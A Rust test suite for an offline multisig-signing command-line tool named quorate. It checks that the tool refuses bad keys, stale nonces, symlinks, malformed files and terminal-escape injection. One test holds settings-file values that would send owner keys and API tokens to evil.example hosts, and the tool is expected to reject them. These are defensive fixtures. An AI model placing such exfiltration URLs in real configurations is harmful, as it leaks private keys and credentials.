//! The binary without a network: keys, files, signing from evidence, and what it refuses.

#![allow(clippy::unwrap_used, reason = "a test that cannot be set up has failed")]

mod schema;
mod world;

use std::fs;

use quorate_core::{Proposal, Signature};
use serde_json::{Value, json};

use world::{OWNER, World, evidence, proposal};

#[test]
fn an_owner_signs_without_a_network_from_the_evidence_in_the_file() {
    let world = World::new();
    world.put("p.json", &proposal(7).to_json());
    let run = world.run(&["sign", "p.json", "--keystore", "key", "--password-file", "password", "--yes", "-v"]);
    assert_eq!(run.exit, 0, "{run:?}");
    for shown in ["31337", "1.5.0", "domain hash", "message hash", "safeTxHash", "block 5", "claim", "0 HTTP requests"]
    {
        assert!(run.stderr.contains(shown), "{shown}: {}", run.stderr);
    }
    let signed = world.proposal("p.json");
    assert_eq!(signed.signatures().len(), 1);
    assert!(signed.signatures().get(OWNER).is_some());

    let again = world.json(&["sign", "p.json", "--keystore", "key", "--password-file", "password", "--yes", "--json"]);
    assert_eq!((&again["success"], &again["data"]["known"]), (&json!(true), &json!(true)));
    assert_eq!(again["data"]["status"]["stage"], "ready");
}

#[test]
fn nothing_is_signed_without_a_yes_where_nobody_can_be_asked() {
    let world = World::new();
    let before = proposal(7).to_json();
    world.put("p.json", &before);
    let run = world.run(&["sign", "p.json", "--keystore", "key", "--password-file", "password"]);
    assert_eq!(run.exit, 2, "{run:?}");
    assert!(run.stderr.contains("--yes"));
    assert_eq!(world.read("p.json"), before);
}

#[test]
fn a_stranger_does_not_sign() {
    let world = World::new();
    world.put("p.json", &proposal(7).to_json());
    let key = "2".repeat(64);
    let run = world.run_with(&[("KEY", &key)], &["sign", "p.json", "--private-key-env", "KEY", "--yes", "--json"]);
    assert_eq!((run.exit, run.code()), (3, "not_an_owner".to_owned()), "{run:?}");
    assert!(world.proposal("p.json").signatures().is_empty());
}

#[test]
fn without_evidence_and_without_a_node_nothing_is_signed() {
    let world = World::new();
    let bare = Proposal::new(*proposal(7).domain(), proposal(7).tx().clone(), "").unwrap();
    world.put("p.json", &bare.to_json());
    let run = world.run(&["sign", "p.json", "--keystore", "key", "--password-file", "password", "--yes", "--json"]);
    assert_eq!((run.exit, run.code()), (3, "no_evidence".to_owned()));
}

#[test]
fn a_nonce_that_the_evidence_says_is_used_is_not_signed_for() {
    let world = World::new();
    world.put("p.json", &proposal(3).to_json());
    let run = world.run(&["sign", "p.json", "--keystore", "key", "--password-file", "password", "--yes", "--json"]);
    assert_eq!((run.exit, run.code()), (3, "stale_nonce".to_owned()));
}

#[test]
fn a_wrong_password_is_told_from_a_broken_key_file() {
    let world = World::new();
    world.put("p.json", &proposal(7).to_json());
    world.put("wrong", "no");
    let run = world.run(&["sign", "p.json", "--keystore", "key", "--password-file", "wrong", "--yes", "--json"]);
    assert_eq!((run.exit, run.code()), (3, "wrong_password".to_owned()));
    world.put("key", "{}");
    let run = world.run(&["sign", "p.json", "--keystore", "key", "--password-file", "wrong", "--yes", "--json"]);
    assert_eq!((run.exit, run.code()), (3, "bad_keystore".to_owned()));
}

#[test]
fn a_key_on_the_command_line_is_refused_and_not_repeated() {
    let world = World::new();
    let secret = "3".repeat(64);
    for arguments in
        [vec!["sign", "p.json", "--private-key", &secret], vec!["exec", "0", "--yes", "--private-key", &secret]]
    {
        let run = world.run(&arguments);
        assert_eq!(run.exit, 2);
        assert!(run.stderr.contains("--private-key-env") && !run.stderr.contains(&secret), "{}", run.stderr);
    }
}

#[test]
fn copies_that_went_different_ways_come_together() {
    let world = World::new();
    let (mut one, mut two) = (proposal(7), proposal(7));
    one.sign(Signature::Approved { owner: world::APPROVER }).unwrap();
    two.sign(world::signature(&two)).unwrap();
    world.put("one.json", &one.to_json());
    world.put("two.json", &two.to_json());
    let done = world.json(&["import", "one.json", "two.json", "--json"]);
    assert_eq!(done["success"], true, "{done:#}");
    assert_eq!(done["data"]["imported"][1]["signatures"], 2);
    assert_eq!(done["data"]["imported"][1]["new_signatures"], json!([OWNER.to_string()]));

    let listed = world.json(&["list", "--json"]);
    assert_eq!(listed["data"]["proposals"][0]["signatures"], 2);
    assert_eq!(listed["data"]["proposals"][0]["what"], "payment");
    let exported = world.run(&["export", "7"]);
    assert_eq!(Proposal::from_json(exported.stdout.as_bytes()).unwrap().signatures().len(), 2);
}

#[test]
fn when_a_file_is_refused_it_is_said_which_were_taken_over() {
    let world = World::new();
    world.put("good.json", &proposal(7).to_json());
    world.put("bad.json", "{}");
    world.put("later.json", &proposal(8).to_json());
    let run = world.run(&["import", "good.json", "bad.json", "later.json", "--json"]);
    assert_eq!((run.exit, run.code()), (3, "bad_proposal".to_owned()));
    let envelope: Value = serde_json::from_str(&run.stdout).unwrap();
    let hint = envelope["errors"][0]["hint"].as_str().unwrap();
    assert!(hint.contains("taken over before: good.json; not looked at: later.json"), "{hint}");
    assert_eq!(envelope["data"]["imported"][0]["safe_tx_hash"], proposal(7).hash().to_string());
    assert_eq!(world.json(&["list", "--json"])["data"]["proposals"].as_array().unwrap().len(), 1);
}

#[test]
fn claims_that_only_the_chain_can_decide_between_are_not_dropped() {
    let world = World::new();
    let claim = |byte| Signature::Contract { owner: world::APPROVER, data: vec![byte; 65].into() };
    let (mut one, mut two) = (proposal(7), proposal(7));
    one.sign(claim(1)).unwrap();
    two.sign(claim(2)).unwrap();
    two.sign(world::signature(&two)).unwrap();
    world.put("one.json", &one.to_json());
    world.put("two.json", &two.to_json());
    assert_eq!(world.run(&["import", "one.json"]).exit, 0);
    let run = world.run(&["import", "two.json", "--json"]);
    assert_eq!((run.exit, run.code()), (3, "refused".to_owned()), "{run:?}");
    assert!(run.stdout.contains("quorate import two.json --rpc-url URL"), "{run:?}");
    let exported = world.run(&["export", "7"]);
    assert_eq!(Proposal::from_json(exported.stdout.as_bytes()).unwrap(), one, "nothing of the file was taken over");
}

#[test]
fn a_link_in_the_mailbox_is_refused_at_once() {
    let world = World::new();
    world.put("p.json", &proposal(7).to_json());
    let imported = world.json(&["import", "p.json", "--json"]);
    let file = world.path(imported["data"]["imported"][0]["file"].as_str().unwrap());
    fs::remove_file(&file).unwrap();
    for target in ["nowhere", "/dev/zero"] {
        std::os::unix::fs::symlink(target, &file).unwrap();
        let run = world.run(&["import", "p.json", "--json"]);
        assert_eq!((run.exit, run.code()), (3, "bad_proposal".to_owned()), "{run:?}");
        fs::remove_file(&file).unwrap();
    }
    let directory = file.parent().unwrap();
    fs::rename(directory, world.path("elsewhere")).unwrap();
    std::os::unix::fs::symlink(world.path("elsewhere"), directory).unwrap();
    let run = world.run(&["import", "p.json", "--json"]);
    assert_eq!((run.exit, run.code()), (3, "bad_proposal".to_owned()), "{run:?}");
    assert_eq!(fs::read_dir(world.path("elsewhere")).unwrap().count(), 0);
}

#[test]
fn an_owner_is_warned_of_another_transaction_with_the_nonce_that_it_signed() {
    let world = World::new();
    let mut other = Proposal::new(
        *proposal(7).domain(),
        quorate_core::SafeTx::cancellation(world::SAFE, proposal(7).tx().nonce),
        "",
    )
    .unwrap();
    other.attach(evidence()).unwrap();
    world.put("one.json", &proposal(7).to_json());
    world.put("two.json", &other.to_json());
    assert_eq!(world.run(&["import", "one.json", "two.json"]).exit, 0);
    let (one, two) = (proposal(7).hash().to_string(), other.hash().to_string());
    let sign = |name: &str| world.run(&["sign", name, "--keystore", "key", "--password-file", "password", "--yes"]);
    let warning = "you have signed another transaction with this nonce: ";
    assert!(!sign(&one).stderr.contains(warning));
    assert!(!sign(&one).stderr.contains(warning), "it is no rival of itself");
    let run = sign(&two);
    assert!(run.exit == 0 && run.stderr.contains(&format!("{warning}{one}; only one of them can run")), "{run:?}");
}

#[test]
fn a_signature_of_a_stranger_is_not_imported() {
    let world = World::new();
    let mut bad = proposal(7);
    bad.sign(Signature::Approved { owner: world::STRANGER }).unwrap();
    world.put("bad.json", &bad.to_json());
    let run = world.run(&["import", "bad.json", "--json"]);
    assert_eq!((run.exit, run.code()), (3, "bad_signature".to_owned()));
    assert_eq!(world.json(&["list", "--json"])["data"]["proposals"], json!([]));
}

#[test]
fn a_signature_made_elsewhere_is_added_when_it_is_an_owners() {
    let world = World::new();
    world.put("p.json", &proposal(7).to_json());
    let good = hex::encode_prefixed(world::signature(&proposal(7)).to_bytes());
    let other = hex::encode_prefixed(world::signature(&proposal(8)).to_bytes());
    let run = world.run(&["add-signature", "p.json", &other, "--json"]);
    assert_eq!((run.exit, run.code()), (3, "not_an_owner".to_owned()));
    assert_eq!(world.json(&["add-signature", "p.json", &good, "--json"])["data"]["done"], "added");
    assert_eq!(world.json(&["add-signature", "p.json", &good, "--json"])["data"]["done"], "kept");
}

#[test]
fn bad_files_are_refused_with_a_word_and_nothing_is_lost() {
    let world = World::new();
    let good = proposal(7).to_json();
    let edited = good.replace("\"value\": \"5\"", "\"value\": \"50\"");
    assert_ne!(edited, good);
    let later = good.replace("\"schema_version\": 1", "\"schema_version\": 2");
    for (name, content) in [
        ("empty", ""),
        ("garbage", "\u{1b}[2J"),
        ("cut", &good[..good.len() / 2]),
        ("edited", &edited),
        ("later", &later),
        ("deep", &"[".repeat(100_000)),
    ] {
        world.put("bad.json", content);
        for command in [&["import", "bad.json", "--json"][..], &["show", "bad.json", "--json"]] {
            let run = world.run(command);
            assert_eq!((run.exit, run.code()), (3, "bad_proposal".to_owned()), "{name}: {run:?}");
            assert!(!run.stdout.contains('\u{1b}'));
        }
        assert_eq!(world.read("bad.json"), content);
    }
    fs::File::create(world.path("huge.json")).unwrap().set_len(64 << 20).unwrap();
    let run = world.run(&["show", "huge.json", "--json"]);
    assert_eq!((run.exit, run.code()), (3, "bad_proposal".to_owned()));
}

#[test]
fn a_name_that_fits_two_is_refused() {
    let world = World::new();
    let cancellation = quorate_core::SafeTx::cancellation(world::SAFE, proposal(7).tx().nonce);
    let mut other = Proposal::new(*proposal(7).domain(), cancellation, "").unwrap();
    other.attach(evidence()).unwrap();
    world.put("one.json", &proposal(7).to_json());
    world.put("two.json", &other.to_json());
    assert_eq!(world.run(&["import", "one.json", "two.json"]).exit, 0);
    let run = world.run(&["show", "7", "--json"]);
    assert_eq!((run.exit, run.code()), (2, "ambiguous".to_owned()));
    assert_eq!(world.run(&["show", &other.hash().to_string()[..8]]).exit, 0);
    assert_eq!(world.run(&["show", "9", "--json"]).code(), "not_found");
}

#[test]
fn what_a_file_says_cannot_steer_the_terminal() {
    let world = World::new();
    let note = "rent\u{1b}[2J\u{202e}\nto 0xevil";
    let mut hostile = Proposal::new(*proposal(7).domain(), proposal(7).tx().clone(), note).unwrap();
    hostile.attach(evidence()).unwrap();
    world.put("p.json", &hostile.to_json());
    let run = world.run(&["show", "p.json"]);
    assert_eq!(run.exit, 0);
    assert!(run.stdout.contains(r"rent\u{1b}[2J\u{202e} to 0xevil"), "{}", run.stdout);
    for text in
        [&run.stdout, &world.run(&["export", "p.json"]).stdout, &world.run(&["show", "p.json", "--json"]).stdout]
    {
        assert!(!text.contains(['\u{1b}', '\u{202e}']));
    }
}

#[test]
fn keys_are_made_listed_and_never_overwritten() {
    let world = World::new();
    let made = world.json(&["key", "new", "alice", "--keystore-dir", "keys", "--password-file", "password", "--json"]);
    assert_eq!(made["success"], true, "{made:#}");
    let key = format!("0x{}\n", "1".repeat(64));
    let run =
        world.run_with_stdin(&key, &["key", "import", "bob", "--keystore-dir", "keys", "--password-file", "password"]);
    assert_eq!(run.exit, 0, "{run:?}");
    fs::copy(world.path("key"), world.path("keys/cast")).unwrap();
    let listed = world.json(&["key", "list", "--keystore-dir", "keys", "--json"]);
    let accounts = listed["data"]["accounts"].as_array().unwrap();
    assert_eq!(accounts.iter().map(|it| it["name"].as_str().unwrap()).collect::<Vec<_>>(), ["alice", "bob", "cast"]);
    assert_eq!(accounts[0]["address"], made["data"]["address"]);
    assert_eq!(accounts[1]["address"], "0x19E7E376E7C213B7E7e7e46cc70A5dD086DAff2A");
    assert_eq!(accounts[2]["address"], Value::Null);
    let run = world.run(&["key", "new", "alice", "--keystore-dir", "keys", "--password-file", "password", "--json"]);
    assert_eq!((run.exit, run.code()), (2, "already_exists".to_owned()));
    let run =
        world.run(&["key", "address", "--account", "cast", "--keystore-dir", "keys", "--password-file", "password"]);
    assert_eq!(run.stdout.trim(), OWNER.to_string());
}

#[test]
fn mistakes_on_the_command_line_are_in_the_envelope_too() {
    let world = World::new();
    for arguments in
        [&["frobnicate", "--json"][..], &["sign", "--json"], &["propose", "0x1", "--json", "--operation", "x"]]
    {
        let run = world.run(arguments);
        assert_eq!((run.exit, run.code()), (2, "usage".to_owned()), "{run:?}");
    }
    assert_eq!(world.run(&["exec", "0"]).exit, 2);
    assert_eq!(world.run(&["--version"]).exit, 0);
    assert_eq!(world.run(&["completions", "bash"]).exit, 0);
}

#[test]
fn a_node_that_is_not_named_is_not_guessed() {
    let world = World::new();
    let run = world.run(&["safe", "info", "--safe", "31337:0x41675C099F32341bf84BFc5382aF534df5C7461a", "--json"]);
    assert_eq!((run.exit, run.code()), (2, "rpc_missing".to_owned()));
    let run = world.run(&["safe", "info", "--json"]);
    assert_eq!((run.exit, run.code()), (2, "safe_missing".to_owned()));
}

#[test]
fn a_url_with_a_key_in_it_is_never_printed() {
    let world = World::new();
    let url = "http://127.0.0.1:1/v3/topsecretkey";
    let safe = "31337:0x41675C099F32341bf84BFc5382aF534df5C7461a";
    let run = world.run(&["safe", "info", "--safe", safe, "--rpc-url", url, "--rpc-timeout", "1", "-v"]);
    assert_eq!(run.exit, 5, "{run:?}");
    assert!(!run.stderr.contains("topsecret") && run.stderr.contains("127.0.0.1"), "{}", run.stderr);
    world.put("quorate.toml", "[chains.local]\nchain_id = 31337\nrpc = \"http://127.0.0.1:1/${NODE_API_KEY}\"\n");
    for quiet in ["-v", "--quiet", "--json"] {
        let arguments = ["safe", "info", "--safe", safe, "--rpc-timeout", "1", quiet];
        let run = world.run_with(&[("NODE_API_KEY", "topsecretkey")], &arguments);
        assert_eq!(run.exit, 5, "{run:?}");
        assert!(!run.stderr.contains("topsecret") && !run.stdout.contains("topsecret"), "{run:?}");
        let told = run.stderr.matches("quorate.toml sends $NODE_API_KEY to http://127.0.0.1:1\n").count();
        assert_eq!(told, 1, "{run:?}");
    }
    let run = world.run(&["safe", "info", "--safe", safe, "--json"]);
    assert_eq!((run.exit, run.code()), (2, "config".to_owned()));
}

#[test]
fn a_directory_that_cannot_be_written_loses_nothing() {
    let world = World::new();
    world.put("p.json", &proposal(7).to_json());
    world.put(".quorate", "a file where a directory has to be");
    let run = world.run(&["import", "p.json", "--json"]);
    assert_eq!((run.exit, run.code()), (1, "io".to_owned()), "{run:?}");
}

#[test]
fn proposal_files_follow_their_schema() {
    let schema: Value = serde_json::from_str(include_str!("../../../docs/proposal.schema.json")).unwrap();
    let mut full = proposal(7);
    full.sign(world::signature(&full)).unwrap();
    full.sign(Signature::Contract { owner: world::APPROVER, data: vec![9; 70].into() }).unwrap();
    let bare = Proposal::new(*proposal(7).domain(), proposal(7).tx().clone(), "").unwrap();
    for proposal in [&full, &bare] {
        let file: Value = serde_json::from_str(&proposal.to_json()).unwrap();
        schema::expect(&schema, &file);
    }
    for (pointer, value) in [
        ("/safe_tx_hash", json!("0x12")),
        ("/transaction/operation", json!(2)),
        ("/transaction/value", json!(1.5)),
        ("/signatures/0/owner", json!("alice")),
        ("/evidence/threshold", json!("two")),
    ] {
        let mut file: Value = serde_json::from_str(&full.to_json()).unwrap();
        *file.pointer_mut(pointer).unwrap() = value;
        assert!(schema::check(&schema, &file).is_err(), "{pointer}");
        assert!(Proposal::from_json(file.to_string().as_bytes()).is_err(), "{pointer}");
    }
}

#[test]
fn the_reference_in_the_repository_is_that_of_the_program() {
    let world = World::new();
    let docs = concat!(env!("CARGO_MANIFEST_DIR"), "/../../docs");
    let run = world.run(&["docs", "--dir", docs, "--check"]);
    assert_eq!(run.exit, 0, "{run:?}");
}

#[test]
fn a_settings_file_does_not_send_what_the_environment_holds_for_others() {
    let world = World::new();
    let key = "3".repeat(64);
    for (rpc, variable, value) in [
        ("https://evil.example/${OWNER_KEY}", "OWNER_KEY", key.as_str()),
        ("https://evil.example/${OWNER_API_KEY}", "OWNER_API_KEY", &key),
        ("http://evil.example/${NODE_API_KEY}", "NODE_API_KEY", "topsecret"),
        ("https://${NODE_API_KEY}.evil.example/", "NODE_API_KEY", "topsecret"),
    ] {
        world.put("quorate.toml", &format!("[chains.local]\nchain_id = 31337\nrpc = \"{rpc}\"\n"));
        let run = world.run_with(
            &[(variable, value)],
            &["safe", "info", "--safe", "local:0x41675C099F32341bf84BFc5382aF534df5C7461a", "--json"],
        );
        assert_eq!((run.exit, run.code()), (2, "config".to_owned()), "{run:?}");
        assert!(!run.stdout.contains(value) && !run.stderr.contains(value), "{run:?}");
    }
}

#[test]
fn evidence_of_another_release_than_the_settings_pin_is_refused() {
    let world = World::new();
    let pin = |chain_id: u64, version: &str| {
        let safe = world::SAFE;
        world.put(
            "quorate.toml",
            &format!(
                "[chains.local]\nchain_id = {chain_id}\n[safes.it]\nchain = \"local\"\naddress = \"{safe}\"\n\
                 version = \"{version}\"\n"
            ),
        );
    };
    let signature = hex::encode_prefixed(world::signature(&proposal(7)).to_bytes());
    let commands = [
        &["show", "p.json", "--json"][..],
        &["sign", "p.json", "--keystore", "key", "--password-file", "password", "--yes", "--json"],
        &["add-signature", "p.json", &signature, "--json"],
    ];
    for command in commands {
        world.put("p.json", &proposal(7).to_json());
        pin(31_337, "1.4.1");
        let run = world.run(command);
        assert_eq!((run.exit, run.code()), (3, "wrong_contract".to_owned()), "{run:?}");
        for (chain_id, version) in [(31_337, "1.5.0"), (5, "1.4.1")] {
            pin(chain_id, version);
            assert_eq!(world.run(command).exit, 0, "{command:?}");
        }
    }
}

#[test]
fn a_key_in_a_wrong_place_is_not_repeated() {
    let world = World::new();
    let digits = "ac".repeat(32);
    for key in [digits.clone(), format!("0x{digits}")] {
        for arguments in [
            &["key", "import", "zed", &key][..],
            &["key", "import", &key],
            &["key", "import", "zed", "--private-key-env", &key],
            &["key", "address", "--private-key-env", &key],
            &["key", "address", "--account", &key],
            &["key", "address", "--no-such-option", &key],
            &["key", "address", &format!("--private-key-env-is={key}")],
        ] {
            for json in [&[][..], &["--json"]] {
                let run = world.run_with_stdin("", &[arguments, json].concat());
                assert_eq!(run.exit, 2, "{arguments:?}: {run:?}");
                assert!(!run.stdout.contains(&digits) && !run.stderr.contains(&digits), "{arguments:?}: {run:?}");
            }
        }
    }
    let run = world.run(&["key", "import", "zed", &digits]);
    assert!(run.stderr.contains("unexpected argument '***'"), "{run:?}");
}

#[test]
fn an_address_that_only_the_file_states_is_said_to_be_so() {
    let world = World::new();
    let made = ["key", "new", "alice", "--keystore-dir", "keys", "--password-file", "password"];
    assert_eq!(world.run(&made).exit, 0);
    let key = ["key", "address", "--account", "alice", "--keystore-dir", "keys", "--password-file", "password"];
    let run = world.run(&key);
    assert!(run.exit == 0 && run.stderr.contains("stated by the file, not verified: --verify"), "{run:?}");
    let run = world.run(&[&key[..], &["--verify"]].concat());
    assert!(run.exit == 0 && run.stderr.is_empty(), "{run:?}");
    fs::copy(world.path("keys/alice"), world.path("keys/bob")).unwrap();
    let run = world.run(&["key", "list", "--keystore-dir", "keys"]);
    assert_eq!(run.stderr.matches("not verified").count(), 1, "{run:?}");
}

#[test]
fn a_password_comes_through_a_pipe() {
    let world = World::new();
    let key = ["key", "address", "--keystore", "key", "--password-file", "/dev/stdin"];
    let run = world.run_with_stdin("pw\n", &key);
    assert_eq!((run.exit, run.stdout.trim()), (0, OWNER.to_string().as_str()), "{run:?}");
    let run = world.run_with_stdin(&"x".repeat(100_000), &key);
    assert!(run.exit == 2 && run.stderr.contains("at most 65536"), "{run:?}");
    for other in ["/dev/zero", "/"] {
        let run = world.run(&["key", "address", "--keystore", "key", "--password-file", other]);
        assert!(run.exit == 2 && run.stderr.contains("not a regular file"), "{run:?}");
    }
}
